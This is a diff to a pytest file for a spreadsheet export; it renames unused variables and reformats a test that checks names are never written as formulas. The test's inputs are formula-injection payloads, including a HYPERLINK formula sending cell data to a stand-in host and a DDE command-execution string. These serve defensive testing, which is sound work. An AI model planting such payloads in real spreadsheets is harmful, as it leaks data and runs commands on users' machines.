@@ -52,7 +52,7 @@ def test_the_sheet_carries_title_unit_filter_time_and_who_then_a_styled_header()
 
 def test_dates_are_dates_and_rates_are_numbers_shown_as_percentages():
     ws, _ = written([["张小明", dt.date(2026, 9, 1), 9, 10, 0.9]])
-    name, day, done, owed, rate = ws[HEADER_ROW + 1]
+    _name, day, done, _owed, rate = ws[HEADER_ROW + 1]
 
     assert day.is_date and day.value.date() == dt.date(2026, 9, 1) and day.number_format == "yyyy-mm-dd"
     assert done.value == 9 and done.data_type == "n"
@@ -69,7 +69,16 @@ def test_the_totals_row_sums_numbers_and_takes_the_rate_of_the_sums():
 
 @pytest.mark.parametrize(
     "name",
-    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-2", "@x", "=1+1", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+        "+1",
+        "-2",
+        "@x",
+        "=1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "=cmd|' /C calc'!A0",
+    ],
 )
 def test_no_text_becomes_a_formula(name):
     ws, _ = written([[name, None, 1, 1, 1.0]])
